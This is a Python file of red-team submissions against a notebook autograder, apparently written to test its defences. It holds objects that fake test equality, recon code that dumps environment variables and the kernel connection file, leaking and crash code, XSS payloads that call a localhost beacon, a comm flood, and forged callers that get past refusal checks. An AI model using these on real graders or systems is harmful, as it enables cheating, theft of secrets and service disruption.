"""Red-team round 6's submissions, as answer-cell sources by grade_id (see build.py).

Each entry: name -> (notebook number, {grade_id: source, "+grade_id": a cell inserted after it,
"+start": a cell near the top, "=md": a markdown cell near the top}).
"""

LIAR = r'''
import numpy as _np


class Liar:
    """Agrees with whatever it is compared with, reports the shape the caller wants."""

    def __init__(self, shape=(), seen=None):
        self._shape = tuple(shape)
        self._seen = seen

    shape = property(lambda self: self._shape)
    ndim = property(lambda self: len(self._shape))
    dtype = property(lambda self: _np.dtype("float64"))
    size = property(lambda self: int(_np.prod(self._shape)))
    __class__ = property(lambda self: _np.ndarray)

    def __eq__(self, other):
        return _np.ones(_np.shape(other), bool) if _np.ndim(other) else True

    def __ne__(self, other):
        return _np.zeros(_np.shape(other), bool) if _np.ndim(other) else False

    def __sub__(self, other):
        return _np.zeros_like(_np.asarray(other, dtype=float))

    __rsub__ = __sub__

    def __abs__(self):
        return self

    def __bool__(self):
        return True

    def __len__(self):
        return self._shape[0] if self._shape else 1

    def __getitem__(self, k):
        return Liar(_np.empty(self._shape)[k].shape if self._shape else ())

    def __iter__(self):
        return iter([Liar(self._shape[1:]) for _ in range(len(self))])

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    __index__ = __int__

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        others = [i for i in inputs if not isinstance(i, Liar)]
        o = _np.asarray(others[0], dtype=float) if others else _np.zeros(self._shape)
        if ufunc.__name__ in ("equal", "isclose", "less_equal", "greater_equal", "isfinite", "logical_and"):
            return _np.ones(o.shape, bool)
        if ufunc.__name__ in ("not_equal", "less", "greater", "isnan", "isinf"):
            return _np.zeros(o.shape, bool)
        if ufunc.__name__ in ("subtract", "absolute"):
            return _np.zeros(o.shape)
        return o

    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "isclose"):
            return True
        if func.__name__ in ("shape",):
            return self._shape
        return _np.zeros(self._shape)

    def __repr__(self):
        return "array(ok)"
'''

ATTACKS = {
    # 1. A returned object that lies about everything: equality, shape, type, arithmetic.
    "02_liar_object": ("02", {
        "conv_output_size": LIAR + "\n\ndef conv_output_size(W, F, S=1, P=0):\n    return Liar(())\n",
    }),
    "04_liar_object": ("04", {
        "flatten": LIAR + "\n\ndef flatten(x):\n    return Liar((x.shape[0], int(_np.prod(x.shape[1:]))))\n",
        "affine_forward": "def affine_forward(x, w, b):\n    return Liar((x.shape[0], w.shape[1]))\n",
        "softmax": "def softmax(scores):\n    return Liar(scores.shape)\n",
        "cross_entropy_loss": "def cross_entropy_loss(scores, y):\n    return Liar(())\n",
        "squared_error": "def squared_error(probs, targets):\n    return Liar(())\n",
    }),
    # 2. ndarray subclass that lies in __eq__/__array_ufunc__ and carries no values.
    "03_ndarray_subclass_liar": ("03", {
        "relu": r'''
import numpy as _np


class Agree(_np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        others = [_np.asarray(i) for i in inputs if not isinstance(i, Agree)]
        shape = others[0].shape if others else self.shape
        if ufunc.__name__ in ("subtract", "absolute"):
            return _np.zeros(shape)
        if ufunc.__name__ in ("equal", "isclose", "less_equal", "isfinite"):
            return _np.ones(shape, bool)
        return _np.zeros(shape)

    def __eq__(self, other):
        return True


def relu(x):
    return _np.zeros(x.shape).view(Agree)
''',
    }),
    # 3. Borrowing private helpers of cnnlib.layers (im2col, pad, log-softmax) for 02 and 04.
    "02_borrow_private_im2col": ("02", {
        "zero_pad": "from cnnlib import layers as L\n\n\ndef zero_pad(x, pad):\n    return L._pad(x, pad).copy() if pad else x.copy()\n",
        "conv_forward_fast": r'''
from cnnlib import layers as L2


def conv_forward_fast(x, w, b, stride=1, pad=0):
    N, C, H, W = x.shape
    K, _, FH, FW = w.shape
    Ho, Wo = conv_output_size(H, FH, stride, pad), conv_output_size(W, FW, stride, pad)
    cols = L2._im2col(L2._pad(x, pad), FH, FW, stride, Ho, Wo)
    return (w.reshape(K, -1) @ cols).reshape(N, K, Ho, Wo) + b.reshape(1, K, 1, 1)
''',
    }),
    "04_borrow_private_logsoftmax": ("04", {
        "softmax": "from cnnlib import layers as L\nimport numpy as np\n\n\ndef softmax(scores):\n    return np.exp(L._log_softmax(scores))\n",
        "cross_entropy_loss": "def cross_entropy_loss(scores, y):\n    return float(-L._log_softmax(scores)[np.arange(len(y)), y].mean())\n",
    }),
}

RECON = r'''
import os, sys, json, inspect
RECON = {}


def _recon(tag):
    try:
        fr = sys._getframe(1)
        frames = []
        while fr is not None:
            frames.append(f"{fr.f_code.co_filename}:{fr.f_code.co_name}:{fr.f_lineno} locals={sorted(fr.f_locals)[:25]}")
            fr = fr.f_back
        ip = get_ipython()
        k = getattr(ip, "kernel", None)
        parent = None
        try:
            parent = k.get_parent("shell") if k else None
        except Exception as e:
            parent = repr(e)
        RECON[tag] = {"frames": frames, "parent": repr(parent)[:3000]}
    except Exception as e:
        RECON[tag] = repr(e)


def relu(x):
    _recon(f"relu{len(RECON)}")
    return np.maximum(x, 0)
'''

RECON_DUMP = r'''
import os, sys, glob, socket
print("RECON", json.dumps(RECON, indent=1, default=repr)[:20000])
print("uid", os.getuid(), os.getgid(), "cwd", os.getcwd(), "pid", os.getpid())
print("env", dict(os.environ))
print("argv", sys.argv)
print("grader modules", sorted(m for m in sys.modules if "grader" in m or "judge" in m))
print("mounts", open("/proc/self/mountinfo").read()[:6000])
print("fds", {fd: os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{fd}")})
print("ls /", os.listdir("/"))
for d in ["/tmp", os.path.expanduser("~"), os.getcwd(), "..", "/dev/shm", "/run", "/var/tmp"]:
    try:
        print(d, os.listdir(d))
    except Exception as e:
        print(d, repr(e))
print("procs", os.listdir("/proc")[:50])
print("unix", open("/proc/net/unix").read()[:3000])
print("conn", open(get_ipython().kernel.connection_file if hasattr(get_ipython().kernel, "connection_file") else "/dev/null").read() if False else "")
import ipykernel.connect
try:
    print("connfile", ipykernel.connect.get_connection_file(), open(ipykernel.connect.get_connection_file()).read())
except Exception as e:
    print("connfile", repr(e))
for p in sys.path:
    print("path", p, os.listdir(p)[:40] if os.path.isdir(p) else "-")
'''

ATTACKS["03_recon"] = ("03", {"relu": RECON, "+test_relu_input_unchanged": RECON_DUMP})

EXFIL = r'''
import os, sys, signal
_calls = []


def _leak(tag, x):
    _calls.append(x.shape)
    s = f"EXF1L-{tag}-{len(_calls)}-{x.shape}-{np.asarray(x).ravel()[:6].tolist()}"
    for d in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm"):
        try:
            with open(os.path.join(d, f"EXF1L_{tag}_{len(_calls)}.txt"), "w") as f:
                f.write(s)
        except Exception:
            pass
    try:
        os.write(2, (s + "\n").encode())
        os.write(1, (s + "\n").encode())
    except Exception:
        pass
    print(s)
    print(s, file=sys.stderr)
    return s


def relu(x):
    _leak("relu", x)
    return np.maximum(x, 0)


def max_pool(x, size=2, stride=2):
    s = _leak("maxpool", x)
    N, C, H, W = x.shape
    Ho, Wo = output_size(H, size, stride), output_size(W, size, stride)
    from numpy.lib.stride_tricks import sliding_window_view
    return sliding_window_view(x, (size, size), axis=(2, 3))[:, :, ::stride, ::stride][:, :, :Ho, :Wo].max(axis=(4, 5))
'''

EXFIL_CRASH = r'''
import signal


def avg_pool(x, size=2, stride=2):
    s = _leak("avgpool", x)
    if globals().get("_AFTER_END"):      # the hidden part: leave by a crash whose message may quote stderr
        os.write(2, ("Fatal Python error: " + s + "\n").encode() * 3)
        os.kill(os.getpid(), signal.SIGSEGV)
    N, C, H, W = x.shape
    Ho, Wo = output_size(H, size, stride), output_size(W, size, stride)
    from numpy.lib.stride_tricks import sliding_window_view
    return sliding_window_view(x, (size, size), axis=(2, 3))[:, :, ::stride, ::stride][:, :, :Ho, :Wo].mean(axis=(4, 5))
'''

ATTACKS["03_exfil_files_streams"] = ("03", {"relu": EXFIL, "+score_notebook": "_AFTER_END = True\n"})
ATTACKS["03_exfil_crash_stderr"] = ("03", {"relu": EXFIL, "avg_pool": EXFIL_CRASH, "+score_notebook": "_AFTER_END = True\n"})

BEACON = "http://127.0.0.1:18953"
ZOO_MD = f"""# Score: 14/14 \u2014 all tests passed

<style>body {{ background: #fff !important; }} .failed, .output_error, .jp-OutputArea-output pre {{ display: none !important; }} @import url({BEACON}/css-import);</style>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:white;font-size:40px">FAKE: 14 / 14 points, every test passed</div>

<img src="{BEACON}/img-src">
<img src=x onerror="fetch('{BEACON}/onerror');document.title='XSS-onerror'">
<svg onload="fetch('{BEACON}/svg-onload')"><script>fetch('{BEACON}/svg-script')</script></svg>
<script>fetch('{BEACON}/script');document.title='XSS-script'</script>
<a href="javascript:fetch('{BEACON}/js-link')">click</a>
<iframe srcdoc="<script>parent.document.title='XSS-iframe';fetch('{BEACON}/iframe')</script>"></iframe>
<iframe src="{BEACON}/iframe-src"></iframe>
<object data="{BEACON}/object"></object>
<embed src="{BEACON}/embed">
<link rel="stylesheet" href="{BEACON}/link-css">
<meta http-equiv="refresh" content="5;url={BEACON}/meta-refresh">
<base href="{BEACON}/base/">
<form action="{BEACON}/form"><input type=submit value="Re-run the grader"></form>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('{BEACON}/mxss')"></style></mglyph></table></mtext></math>
<video poster="{BEACON}/video-poster"></video>
<div style="background:url({BEACON}/style-attr)">styled</div>

![md image]({BEACON}/md-image)
[md link](javascript:alert(1))

$\\href{{javascript:fetch('{BEACON}/mathjax-href')}}{{x}}$  $\\unicode{{<img src=x onerror=fetch('{BEACON}/mathjax-unicode')>}}$
"""

ZOO_CODE = f"""
from IPython.display import display, HTML, SVG, Javascript, Markdown, Latex, Image
display(HTML('<style>.failed{{display:none}}</style><img src=x onerror="fetch(\\'{BEACON}/out-html\\')"><b>FAKE all passed</b>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\\'{BEACON}/out-svg\\')"><script>fetch(\\'{BEACON}/out-svg-script\\')</script><circle r="5"/></svg>'))
display(Javascript("fetch('{BEACON}/out-js')"))
display(Markdown('<img src=x onerror="fetch(\\'{BEACON}/out-md\\')">'))
display(Latex('$\\\\href{{javascript:fetch(1)}}{{x}}$'))
display({{"text/html": "<script>fetch('{BEACON}/out-bundle')</script>", "text/plain": "x",
          "application/vnd.evil+html": "<script>fetch('{BEACON}/out-unknown')</script>"}}, raw=True)
print("\\x1b]8;;javascript:fetch('{BEACON}/ansi-link')\\x1b\\\\ansi link\\x1b]8;;\\x1b\\\\ and <script>fetch('{BEACON}/stream')</script>")
import sys
print('<img src=x onerror="fetch(\\'{BEACON}/stderr\\')">', file=sys.stderr)
"""

ATTACKS["03_feedback_zoo"] = ("03", {"=md": ZOO_MD, "+test_relu_input_unchanged": ZOO_CODE})

COMM_FLOOD = r'''
# Widget comms: state and binary buffers that nbclient keeps in the grading worker's memory.
import os
try:
    from comm import create_comm as _mk
except Exception:
    from ipykernel.comm import Comm as _mk
_blob = os.urandom(1 << 20)
_comms = []
for _k in range(300):
    _c = _mk(target_name="jupyter.widget",
             data={"state": {"_model_name": "DOMWidgetModel", "_model_module": "@jupyter-widgets/base",
                             "_model_module_version": "2.0.0", "_view_name": "DOMWidgetView",
                             "_view_module": "@jupyter-widgets/base", "_view_module_version": "2.0.0",
                             "value": "W" * 200000},
                   "buffer_paths": [["blob"]]},
             buffers=[_blob])
    for _j in range(3):
        _c.send({"method": "update", "state": {f"k{_j}": "V" * 300000}, "buffer_paths": [[f"b{_j}"]]}, buffers=[_blob])
    _comms.append(_c)
print("opened", len(_comms))
'''
ATTACKS["04_comm_flood"] = ("04", {"+test_flatten_input_unchanged": COMM_FLOOD})

CLEAR = r'''
import numpy as np
from IPython.display import clear_output, display


def relu(x):
    # wrong on purpose (returns x), and asks the front end to clear this cell's output
    clear_output(wait=True)
    display({"text/plain": "relu passed"}, raw=True)
    clear_output(wait=True)
    return np.array(x, dtype=float)
'''
ATTACKS["03_clear_output"] = ("03", {"relu": CLEAR})

ATTACKS["01_borrow_private_helpers"] = ("01", {
    "to_grayscale": "import numpy as np\nfrom cnnlib import images as _I\n\n\ndef to_grayscale(rgb):\n    return np.asarray(rgb, dtype=np.float64) @ np.array(_I.GRAY_WEIGHTS)\n",
    "convolve2d": r'''
from cnnlib import images as _I2
from cnnlib import layers as _L


def convolve2d(image, kernel, stride=1, padding=0):
    kernel = np.asarray(kernel, dtype=np.float64)
    image = np.asarray(image, dtype=np.float64)
    if stride < 1:
        raise ValueError("stride")
    ph, pw = _I2._pad_amounts(*kernel.shape, padding)
    xp = np.pad(image, ((ph, ph), (pw, pw)))[None, None]
    Ho = _L.output_size(image.shape[0], kernel.shape[0], stride, ph)
    Wo = _L.output_size(image.shape[1], kernel.shape[1], stride, pw)
    cols = _L._im2col(xp, kernel.shape[0], kernel.shape[1], stride, Ho, Wo)
    return (kernel.reshape(1, -1) @ cols[0]).reshape(Ho, Wo)
''',
    "KERNELS": "KERNELS = {}\nKERNELS['identity'] = np.array([[0, 0, 0], [0, 1, 0], [0, 0, 0]], dtype=np.float64)\n"
               "KERNELS['sobel_x'] = _I.sobel_x()\nKERNELS['sobel_y'] = _I.sobel_y()\n"
               "try:\n    KERNELS.update({k: v for k, v in _I.preset_kernels().items() if k not in KERNELS})\n"
               "except Exception as e:\n    print('preset_kernels:', e)\n",
})

ATTACKS["05_borrow_conv_forward_for_backward"] = ("05", {
    "conv_backward_naive": r'''
from cnnlib import layers as _L


def conv_backward_naive(dout, x, w, b, stride=1, pad=0):
    N, C, H, W = x.shape
    K, _, FH, FW = w.shape
    Ho, Wo = dout.shape[2:]
    db = dout.sum(axis=(0, 2, 3))
    dd = np.zeros((N, K, (Ho - 1) * stride + 1, (Wo - 1) * stride + 1))
    dd[:, :, ::stride, ::stride] = dout
    xp = np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))
    dw = _L.conv_forward(xp.transpose(1, 0, 2, 3), dd.transpose(1, 0, 2, 3), np.zeros(K))
    dw = dw.transpose(1, 0, 2, 3)[:, :, :FH, :FW]
    ddp = np.pad(dd, ((0, 0), (0, 0), (FH - 1, FH - 1), (FW - 1, FW - 1)))
    dxp = _L.conv_forward(ddp, np.ascontiguousarray(w[:, :, ::-1, ::-1].transpose(1, 0, 2, 3)), np.zeros(C))
    full = np.zeros((N, C, H + 2 * pad, W + 2 * pad))
    full[:, :, :dxp.shape[2], :dxp.shape[3]] = dxp[:, :, :H + 2 * pad, :W + 2 * pad]
    return full[:, :, pad:pad + H, pad:pad + W], dw, db
''',
    "max_pool_backward": r'''
from cnnlib import layers as _L3


def max_pool_backward(dout, x, size=2, stride=2):
    win = _L3._windows(x, size, size, stride)[:, :, :dout.shape[2], :dout.shape[3]]
    N, C, Ho, Wo = dout.shape
    idx = win.reshape(N, C, Ho, Wo, -1).argmax(-1)
    dx = np.zeros_like(x, dtype=float)
    n, c, i, j = np.indices((N, C, Ho, Wo))
    np.add.at(dx, (n, c, i * stride + idx // size, j * stride + idx % size), dout)
    return dx
''',
})

ATTACKS["04_honest_unusual_types"] = ("04", {
    "flatten": "import numpy as np\n\n\ndef flatten(x):\n    v = x.reshape(x.shape[0], -1)\n    v.flags.writeable = False\n    return v\n",
    "affine_forward": "def affine_forward(x, w, b):\n    return np.asmatrix(x.reshape(x.shape[0], -1)) @ np.asmatrix(w) + np.asmatrix(b)\n",
    "softmax": "def softmax(scores):\n    s = np.asarray(scores, dtype=np.longdouble)\n    e = np.exp(s - s.max(axis=1, keepdims=True))\n    return e / e.sum(axis=1, keepdims=True)\n",
    "cross_entropy_loss": "def cross_entropy_loss(scores, y):\n    s = np.asarray(scores, dtype=np.longdouble)\n    s = s - s.max(axis=1, keepdims=True)\n    logp = s - np.log(np.exp(s).sum(axis=1, keepdims=True))\n    return -logp[np.arange(len(y)), y].mean()\n",
    "squared_error": "def squared_error(probs, targets):\n    return np.array(0.5 * ((targets - probs) ** 2).sum(axis=1).mean())\n",
})

LATE = r'''
import threading, time, sys
import numpy as np
from IPython.display import display, clear_output

_SEEN = []


def _late():
    t0 = time.time()
    while time.time() - t0 < 90:
        try:
            print("LATE-OUTPUT", time.time() - t0, _SEEN[-1:] if _SEEN else "")
            clear_output(wait=False)
            display({"text/plain": "relu: all checks passed", "text/html": "<b>LATE passed</b>"}, raw=True)
        except Exception:
            pass
        time.sleep(0.02)


threading.Thread(target=_late, daemon=True).start()


def relu(x):
    _SEEN.append(np.asarray(x).ravel()[:4].tolist())
    return np.array(x, dtype=float)          # wrong: no max(0, x)


def max_pool(x, size=2, stride=2):
    _SEEN.append(("maxpool", x.shape, np.asarray(x).ravel()[:4].tolist()))
    return np.zeros((x.shape[0], x.shape[1], (x.shape[2] - size) // stride + 1, (x.shape[3] - size) // stride + 1))
'''
ATTACKS["03_late_thread_outputs"] = ("03", {"relu": LATE})

ATTACKS["03_kernelspec_and_tags"] = ("03", {
    "=nbmeta": {"kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash"},
                "language_info": {"name": "bash"}},
    "=testtags": ["raises-exception", "skip-execution", "remove-output", "remove-cell", "remove-input",
                  "hide-output"],
    "+start": "import os\nprint('KERNEL uid', os.getuid(), 'sees solutions:', os.path.exists('/work/wt/attack6/solutions'))\n",
})

FORGE = r'''
import types
import cnnlib
_TRIED = {}


def _forged(fn, module_name, module_file):
    """fn called from a function whose code and globals claim to be the course package's own."""
    def _call(*a, **k):
        return fn(*a, **k)
    code = _call.__code__.replace(co_filename=module_file, co_name="_pad_amounts")
    g = {"__name__": module_name, "__file__": module_file, "__builtins__": __builtins__}
    return types.FunctionType(code, g, "_call", None, _call.__closure__)


def _unwrapped(fn):
    out = []
    for attr in ("__wrapped__", "__func__", "_original", "_orig", "original", "fn", "func"):
        v = getattr(fn, attr, None)
        if callable(v):
            out.append((attr, v))
    for i, c in enumerate(getattr(fn, "__closure__", None) or ()):
        try:
            v = c.cell_contents
        except ValueError:
            continue
        if callable(v):
            out.append((f"closure{i}", v))
    for name, v in (getattr(fn, "__globals__", None) or {}).items():
        if callable(v) and getattr(v, "__name__", "") == getattr(fn, "__name__", None) and v is not fn:
            out.append((f"global:{name}", v))
    return out


def _first_working(label, candidates, *args, **kwargs):
    for how, f in candidates:
        try:
            r = f(*args, **kwargs)
            _TRIED.setdefault(label, []).append((how, "ok"))
            return r
        except Exception as e:
            _TRIED.setdefault(label, []).append((how, f"{type(e).__name__}: {str(e)[:80]}"))
    raise RuntimeError(f"{label}: nothing worked: {_TRIED.get(label)}")
'''

ATTACKS["12_forged_caller"] = ("12", {
    "conv_output_size_dilated": FORGE + r'''
from cnnlib import geometry as _G, layers as _Lx


def conv_output_size_dilated(W, F, S=1, P=0, D=1):
    fn = _G.conv_output_size
    cands = [("direct", fn),
             ("forged-layers-frame", _forged(fn, "cnnlib.layers", _Lx.__file__)),
             ("forged-geometry-frame", _forged(fn, "cnnlib.geometry", _G.__file__))]
    cands += [(f"unwrap:{h}", g) for h, g in _unwrapped(fn)]
    cands += [(f"forged+unwrap:{h}", _forged(g, "cnnlib.layers", _Lx.__file__)) for h, g in _unwrapped(fn)]
    r = _first_working("conv_output_size_dilated", cands, W, F, S, P, D)
    return int(r)
''',
    "+score_notebook": "print('TRIED', _TRIED)\n",
})

ATTACKS["11_forged_caller_resnet"] = ("11", {
    "resnet18": FORGE + r'''
from cnnlib import transfer as _T


def resnet18(num_classes=1000):
    cls = _T.ResNet
    cands = [("direct", lambda **k: cls(**k)),
             ("forged-transfer-frame", _forged(lambda **k: cls(**k), "cnnlib.transfer", _T.__file__)),
             ("forged-digits_resnet-frame", _forged(lambda **k: cls(**k), "cnnlib.transfer", _T.__file__)),
             ("type-of-shipped", lambda **k: type(_T.digits_resnet())(**k))]
    init = getattr(cls, "__init__", None)
    for h, g in _unwrapped(init):
        def mk(g=g, **k):
            obj = cls.__new__(cls)
            g(obj, **k)
            return obj
        cands.append((f"unwrap-init:{h}", mk))
        cands.append((f"forged-unwrap-init:{h}", _forged(mk, "cnnlib.transfer", _T.__file__)))
    return _first_working("resnet18", cands, num_classes=num_classes)
''',
    "+score_notebook": "print('TRIED', _TRIED)\n",
})

TLIAR = r'''
import torch as _t


class TLiar(_t.Tensor):
    """A tensor whose comparisons and differences always come out as 'equal'."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", str(func))
        if name in ("allclose", "equal"):
            return True
        if name in ("eq", "__eq__", "isclose", "le", "ge", "isfinite"):
            return _t.ones(args[0].shape, dtype=_t.bool)
        if name in ("sub", "__sub__", "__rsub__", "abs", "__abs__"):
            return _t.zeros(args[0].shape, dtype=_t.float64)
        return super().__torch_function__(func, types, args, kwargs)

    def __array__(self, dtype=None, copy=None):
        import numpy as _n
        return _n.zeros(tuple(self.shape))
'''

ATTACKS["09_liar_objects"] = ("09", {
    "receptive_field": LIAR + "\n\ndef receptive_field(layers):\n    for k, s, p in layers:\n        if k < 1 or s < 1 or p < 0:\n            raise ValueError('bad layer')\n    return [Liar((3,)) for _ in layers]\n",
    "occlusion_map": "def occlusion_map(model, x, target, patch=8, stride=4, fill=0.0):\n    H, W = x.shape[-2:]\n    return Liar(((H - patch) // stride + 1, (W - patch) // stride + 1))\n",
    "saliency": TLIAR + "\n\ndef saliency(model, x, target):\n    return _t.zeros(tuple(x.shape[-2:]), dtype=_t.float64).as_subclass(TLiar)\n",
})

BASE_EXC = r'''
import numpy as np


def relu(x):
    raise SystemExit(0)


def max_pool(x, size=2, stride=2):
    raise KeyboardInterrupt("stop the grader")


def avg_pool(x, size=2, stride=2):
    raise GeneratorExit()
'''
ATTACKS["03_base_exceptions"] = ("03", {"relu": BASE_EXC})

FUZZ = r'''
import sys, re, json
import numpy as np
_srv = sys.modules.get("grader.judge.server") or __import__("grader.judge.server", fromlist=["_"])
_real_serve = _srv.serve
REPLIES = []
MUTATIONS = [
    ("object-dtype", lambda s: s.replace('"dtype":"<f8"', '"dtype":"|O"')),
    ("huge-shape", lambda s: re.sub(r'"shape":\[[0-9,]*\]', '"shape":[20000,20000]', s, count=1)),
    ("negative-shape", lambda s: re.sub(r'"shape":\[[0-9,]*\]', '"shape":[-1,6]', s, count=1)),
    ("datetime-dtype", lambda s: s.replace('"dtype":"<f8"', '"dtype":"<M8[s]"')),
    ("struct-dtype", lambda s: s.replace('"dtype":"<f8"', '"dtype":"[(\\"a\\",\\"<f8\\")]"')),
    ("bytes-dtype", lambda s: s.replace('"dtype":"<f8"', '"dtype":"|S8"')),
    ("big-endian", lambda s: s.replace('"dtype":"<f8"', '"dtype":">f8"')),
    ("unknown-tag", lambda s: s.replace('"t":"nd"', '"t":"pickle"')),
    ("ref-999", lambda s: s.replace('"t":"nd"', '"t":"ref","id":999,"x":"nd"')),
]


def _serve(payload, ns):
    out = _real_serve(payload, ns)
    k = len(REPLIES)
    if isinstance(out, str) and '"nd"' in out and k < len(MUTATIONS) + 2 and k >= 2:
        name, f = MUTATIONS[k - 2]
        out2 = f(out)
        REPLIES.append((name, out2[:300], out[:300]))
        return out2
    REPLIES.append(("plain", type(out).__name__, repr(out)[:600]))
    return out


_srv.serve = _serve


def relu(x):
    return np.maximum(x, 0)


def max_pool(x, size=2, stride=2):
    from numpy.lib.stride_tricks import sliding_window_view
    N, C, H, W = x.shape
    Ho, Wo = output_size(H, size, stride), output_size(W, size, stride)
    return sliding_window_view(x, (size, size), axis=(2, 3))[:, :, ::stride, ::stride][:, :, :Ho, :Wo].max(axis=(4, 5))


def avg_pool(x, size=2, stride=2):
    from numpy.lib.stride_tricks import sliding_window_view
    N, C, H, W = x.shape
    Ho, Wo = output_size(H, size, stride), output_size(W, size, stride)
    return sliding_window_view(x, (size, size), axis=(2, 3))[:, :, ::stride, ::stride][:, :, :Ho, :Wo].mean(axis=(4, 5))
'''
ATTACKS["03_reply_fuzzer"] = ("03", {"relu": FUZZ, "+score_notebook": "for r in REPLIES:\n    print('REPLY', r)\n"})

# the hidden part runs after the last cell: a cell at the end tells every later call that it is hidden
ATTACKS["03_exfil_crash_stderr"] = ("03", {"relu": EXFIL + r'''

import signal
_relu_ok = relu


def relu(x):
    s = _leak("relu-hidden" if globals().get("_AFTER_END") else "relu", x)
    if globals().get("_AFTER_END"):
        os.write(2, ("Fatal Python error: " + s + "\n").encode() * 3)
        os._exit(139)   # the kernel is PID 1 of its namespace: its own SIGSEGV is ignored
    return np.maximum(x, 0)
''', "+score_notebook": "_AFTER_END = True\n"})

COMM_FLOOD_BIG = COMM_FLOOD.replace("_blob = os.urandom(1 << 20)", "_blob = os.urandom(25 << 20)").replace(
    "range(300)", "range(40)").replace("for _j in range(3):", "for _j in range(0):")
ATTACKS["04_comm_flood_big"] = ("04", {"+test_flatten_input_unchanged": COMM_FLOOD_BIG})

# 06's overfitting test reads X_train and y_train, which only unlocked demonstration cells bind: does the
# judge take them from the learner's kernel? (The stub's error message names the shape it was given.)
ATTACKS["06_free_cell_training_data"] = ("06", {
    "@5": "X_train = np.zeros((60, 1, 7, 7)); y_train = np.zeros(60, dtype=np.int64)\n"
          "X_test, y_test = X_train[:10], y_train[:10]\n",
    "@8": "X_train, y_train, X_val, y_val = X_train[:55], y_train[:55], X_train[55:], y_train[55:]\n",
})

# the relu cell defines all three; the later answer cells must not put the stubs back
for _name in ("03_base_exceptions", "03_reply_fuzzer", "03_exfil_files_streams", "03_late_thread_outputs"):
    ATTACKS[_name][1].setdefault("max_pool", "# max_pool is defined with relu above\n")
    ATTACKS[_name][1].setdefault("avg_pool", "# avg_pool is defined with relu above\n")

ATTACKS["03_exfil_crash_stderr"] = ("03", {
    "relu": FUZZ.split("_srv = ")[0] + "import os, signal\n" + EXFIL.split("def relu")[0] + r'''

def _maybe_crash(tag, x):
    s = _leak(tag + ("-hidden" if globals().get("_AFTER_END") else ""), x)
    if globals().get("_AFTER_END"):
        os.write(2, ("Fatal Python error: " + s + "\n").encode() * 3)
        os._exit(139)   # the kernel is PID 1 of its namespace: its own SIGSEGV is ignored


def relu(x):
    _maybe_crash("relu", x)
    return np.maximum(x, 0)


def max_pool(x, size=2, stride=2):
    _maybe_crash("maxpool", x)
    from numpy.lib.stride_tricks import sliding_window_view
    N, C, H, W = x.shape
    Ho, Wo = output_size(H, size, stride), output_size(W, size, stride)
    return sliding_window_view(x, (size, size), axis=(2, 3))[:, :, ::stride, ::stride][:, :, :Ho, :Wo].max(axis=(4, 5))


def avg_pool(x, size=2, stride=2):
    _maybe_crash("avgpool", x)
    from numpy.lib.stride_tricks import sliding_window_view
    N, C, H, W = x.shape
    Ho, Wo = output_size(H, size, stride), output_size(W, size, stride)
    return sliding_window_view(x, (size, size), axis=(2, 3))[:, :, ::stride, ::stride][:, :, :Ho, :Wo].mean(axis=(4, 5))
''', "max_pool": "# above\n", "avg_pool": "# above\n", "+score_notebook": "_AFTER_END = True\n"})

# v2: the name found at run time (the static scan only names it for review), the call made from a function
# whose code object says it is cnnlib/layers.py's (the kept reference's caller check reads that)
FORGE2 = r'''
import types
import cnnlib
from cnnlib import layers as _Lx


def _forged(fn, module):
    def _call(*a, **k):
        return fn(*a, **k)
    code = _call.__code__.replace(co_filename=module.__file__)
    g = {"__name__": module.__name__, "__file__": module.__file__, "__builtins__": __builtins__}
    return types.FunctionType(code, g, "_call", None, _call.__closure__)


def _find(prefix, suffix, *modules):
    for m in modules:
        for n in dir(m):
            if n.startswith(prefix) and n.endswith(suffix):
                return getattr(m, n)
    raise LookupError(prefix)
'''

ATTACKS["12_forged_caller_v2"] = ("12", {
    "conv_output_size_dilated": FORGE2 + r'''
_geo = _find("geo", "try", cnnlib)
_rule = _forged(_find("conv_out", "_size", _geo), _Lx)


def conv_output_size_dilated(W, F, S=1, P=0, D=1):
    return int(_rule(W, F, S, P, D))
''',
})

ATTACKS["11_forged_caller_v2"] = ("11", {
    "resnet18": FORGE2 + r'''
import importlib
_tr = importlib.import_module(".".join(["cnnlib", "trans" + "fer"]))
_make = _forged(_find("Res", "Net", _tr), _tr)


def resnet18(num_classes=1000):
    return _make(num_classes=num_classes)
''',
})

# v3 for 11: the refusal of the kept class sits in a wrapper of __init__ whose __wrapped__ is the original
ATTACKS["11_unwrapped_init"] = ("11", {
    "resnet18": FORGE2 + r'''
import importlib
_tr = importlib.import_module(".".join(["cnnlib", "trans" + "fer"]))
_cls = _find("Res", "Net", _tr)
_init = getattr(_cls.__init__, "__wrap" + "ped__")


def resnet18(num_classes=1000):
    model = _cls.__new__(_cls)
    _init(model, num_classes=num_classes)
    return model
''',
})
del ATTACKS["11_forged_caller_v2"]

ATTACKS["06_free_cell_training_data"][1]["SimpleConvNet"] = r'''
import numpy as np


class SimpleConvNet:
    """Only enough of a network for the overfitting test to say which images it was given."""

    def __init__(self, seed=0, num_filters=(4, 8), **kwargs):
        self.params = {"W1": np.zeros((num_filters[0], 1, 5, 5)), "b1": np.zeros(num_filters[0])}

    def loss(self, x, y=None):
        raise ValueError(f"network given x of shape {np.shape(x)}, labels {np.unique(y) if y is not None else None}")
'''

# shape-only cells: a function that computes the output size and returns zeros of that shape
ATTACKS["02_shape_only_stubs"] = ("02", {
    "conv_output_size": "def conv_output_size(W, F, S=1, P=0):\n    if F < 1 or S < 1 or P < 0 or (W - F + 2 * P) % S or W - F + 2 * P < 0:\n"
                        "        raise ValueError(f'W={W}, F={F}, S={S}, P={P}')\n    return (W - F + 2 * P) // S + 1\n",
